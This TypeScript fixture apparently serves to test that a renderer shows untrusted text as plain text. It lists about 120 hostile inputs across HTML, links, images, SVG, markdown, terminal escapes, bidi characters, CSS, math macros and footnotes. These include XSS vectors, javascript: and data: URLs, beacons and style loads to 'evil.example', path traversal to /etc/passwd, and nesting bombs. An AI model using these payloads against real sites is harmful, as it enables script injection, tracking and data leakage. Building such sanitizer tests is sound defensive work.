/** A text that would cause harm if the page did not treat it as plain text. */
interface HostilePayload {
  readonly kind:
    | 'html'
    | 'link'
    | 'picture'
    | 'svg'
    | 'markdown'
    | 'terminal'
    | 'bidi'
    | 'style'
    | 'math'
    | 'footnote';
  readonly text: string;
}

const run = 'globalThis.ran=1';
const evil = 'https://evil.example';
const encoded = Buffer.from(`<script>${run}</script>`).toString('base64');

const html = [
  `<script>${run}</script>`,
  `<SCRIPT SRC=${evil}/x.js></SCRIPT>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script/xss>${run}</script>`,
  `<script\n>${run}</script\n>`,
  `<script>${run}`,
  `</script><script>${run}</script>`,
  `<img src=x onerror=${run}>`,
  `<img src="x" onerror="${run}"//`,
  `<img src=x onerror\n=\n${run}>`,
  `<body onload=${run}>`,
  `<body onpageshow=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}><option>a</select>`,
  `<textarea autofocus onfocus=${run}></textarea>`,
  `<details open ontoggle=${run}><summary>a</summary></details>`,
  `<video><source onerror=${run}></video>`,
  `<video src=x onerror=${run}></video>`,
  `<audio src=${evil}/a.mp3 autoplay onerror=${run}>`,
  `<iframe src="javascript:parent.ran=1"></iframe>`,
  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<iframe src=${evil}></iframe>`,
  `<object data="data:text/html;base64,${encoded}"></object>`,
  `<object data="${evil}/x.swf"></object>`,
  `<embed src="javascript:${run}">`,
  `<embed src="${evil}/x.swf">`,
  `<base href="${evil}/">`,
  `<link rel=stylesheet href=${evil}/x.css>`,
  `<link rel=preload as=script href=${evil}/x.js>`,
  `<link rel=dns-prefetch href=//evil.example>`,
  `<meta http-equiv=refresh content="0;url=${evil}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<form action=${evil}><button autofocus>a</button></form>`,
  `<form><button formaction=javascript:${run}>a</form>`,
  `<a href="javascript:${run}">a</a>`,
  `text <b onclick=${run}>a</b> <kbd style="position:fixed">b</kbd>`,
  `<b><a href="&#106;avascript:${run}">a</a></b>`,
  `<details><summary onclick=${run}>a</summary></details>`,
  `<table><tr><td colspan=99999999 onclick=${run}>a</table>`,
  `<details>\n<summary><img src=x onerror=${run}></summary>\n\n<script>${run}</script>\n\n</details>`,
  `<a href="${evil}" ping="${evil}/ping">a</a>`,
  `<marquee onstart=${run}>a</marquee>`,
  `<x onclick=${run} tabindex=1 onfocus=${run} autofocus>a`,
  `<div style="animation:x" onanimationstart=${run}>a</div>`,
  `<template><script>${run}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<!--><img src=x onerror=${run}>-->`,
  `<![CDATA[<img src=x onerror=${run}>]]>`,
  `<?xml version="1.0"?><script>${run}</script>`,
  `<math><mtext></p><img src=x onerror=${run}></math>`,
  `<math href="javascript:${run}">a</math>`,
  `<table background="${evil}/t.png"><tr><td background="javascript:${run}">`,
  `<portal src=${evil} onload=${run}>`,
  `<dialog open onclose=${run}><form method=dialog><button autofocus>a`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;img src=x onerror=${run}&#62;`,
  `\\u003cimg src=x onerror=${run}\\u003e`,
  `<div id=root><div id=sessions name=getElementById>`,
  `"><img src=x onerror=${run}>`,
  `'-${run}-'`,
  `\${${run}}`,
  `{{constructor.constructor('${run}')()}}`,
];

const links = [
  `[a](javascript:${run})`,
  `[a](JaVaScRiPt:${run})`,
  `[a](java\tscript:${run})`,
  `[a](\u0001javascript:${run})`,
  `[a](&#106;avascript:${run})`,
  `[a](javascript&colon;${run})`,
  `[a](javascript&#x3A;${run})`,
  `[a](<javascript:${run}>)`,
  `[a](data:text/html;base64,${encoded})`,
  `[a](data:text/html,<script>${run}</script>)`,
  `[a](vbscript:msgbox(1))`,
  `[a](blob:${evil}/1)`,
  `[a](file:///etc/passwd)`,
  `[a](/tasks/x/commands)`,
  `[a](//evil.example)`,
  `[a][b]\n\n[b]: javascript:${run}`,
  `<javascript:${run}>`,
  `[a](${evil} "\\" onmouseover=${run} x=\\"")`,
  `[a](${evil}/"onmouseover="${run})`,
];

const pictures = [
  `![a](${evil}/pixel.png)`,
  `![a](//evil.example/pixel.png)`,
  `![a](javascript:${run})`,
  `![a](x" onerror="${run})`,
  `![a][b]\n\n[b]: ${evil}/pixel.png`,
  `[![a](${evil}/pixel.png)](javascript:${run})`,
  `<img src="${evil}/pixel.png" alt="a">`,
  `<img src="${evil}/pixel.png" srcset="${evil}/pixel.png 2x">`,
  `<div><img src="javascript:${run}"></div>`,
  `![a](/tasks/x/blobs/../../../tasks)`,
];

const svgs = [
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml;base64,${encoded}#x"/></svg>`,
  `<svg><foreignObject><img src=x onerror=${run}></foreignObject></svg>`,
  `![a](data:image/svg+xml,<svg onload=${run}>)`,
];

const markdown = [
  `\`\`\`"><script>${run}</script>\na\n\`\`\``,
  `\`\`\`html\n<script>${run}</script>\n\`\`\``,
  `\`\`\`constructor\na\n\`\`\``,
  `\`<img src=x onerror=${run}>\``,
  `| <img src=x onerror=${run}> |\n|---|\n| <script>${run}</script> |`,
  `- [ ] <iframe src=//evil.example>`,
  `# <svg onload=${run}>`,
  `${'['.repeat(500)}a${']'.repeat(500)}(javascript:${run})`,
  `${'> '.repeat(300)}<img src=x onerror=${run}>`,
];

const terminal = [
  `\u001b]8;;javascript:${run}\u0007a\u001b]8;;\u0007`,
  `\u001b[2J\u001b[31mred\u001b]0;title\u0007\u001b[0m\u0000\u0008\u0008`,
];

const bidi = [
  `\u202Ereversed \u2066<img src=x onerror=${run}>\u2069`,
  `invoice\u202Efdp.exe\u200B\u2028\u2029\uFEFF\uDC00`,
];

const style = [
  `<style>@import '${evil}/x.css';*{background:url(${evil}/b)}</style>`,
  `<p style="background:url(${evil}/b);position:fixed;inset:0">a</p>`,
];

const math = [
  `$\\href{javascript:${run}}{a}$`,
  `$\\url{javascript:${run}}$`,
  `$\\includegraphics{${evil}/pixel.png}$`,
  `$\\htmlStyle{background:url(${evil}/b);position:fixed}{a}$`,
  `$\\htmlData{a=b}{a} \\htmlId{root}{a} \\htmlClass{dialog}{a}$`,
  `$\\text{<img src=x onerror=${run}>}$`,
  `$$\\rule{9999em}{9999em} \\kern{9999em} \\raisebox{9999em}{a}$$`,
  `$\\def\\a{\\a\\a}\\a$`,
  `$\\gdef\\frac{\\href{javascript:${run}}} \\frac{a}$`,
  `$${'{'.repeat(2_000)}a${'}'.repeat(2_000)}$`,
  `$\\color{red;background:url(${evil}/b)}{a}$`,
];

const footnotes = [
  `a[^root]\n\n[^root]: <img src=x onerror=${run}>`,
  `a[^"onmouseover=${run}]\n\n[^"onmouseover=${run}]: b`,
  `a[^1]\n\n[^1]: [b](javascript:${run}) ![c](${evil}/pixel.png)`,
  `[^__proto__]: a\n[^constructor]: b\n\n[^__proto__] [^constructor]`,
];

const ofKind = (kind: HostilePayload['kind'], texts: readonly string[]) =>
  texts.map((text): HostilePayload => ({ kind, text }));

export const hostilePayloads: readonly HostilePayload[] = [
  ...ofKind('html', html),
  ...ofKind('link', links),
  ...ofKind('picture', pictures),
  ...ofKind('svg', svgs),
  ...ofKind('markdown', markdown),
  ...ofKind('terminal', terminal),
  ...ofKind('bidi', bidi),
  ...ofKind('style', style),
  ...ofKind('math', math),
  ...ofKind('footnote', footnotes),
];
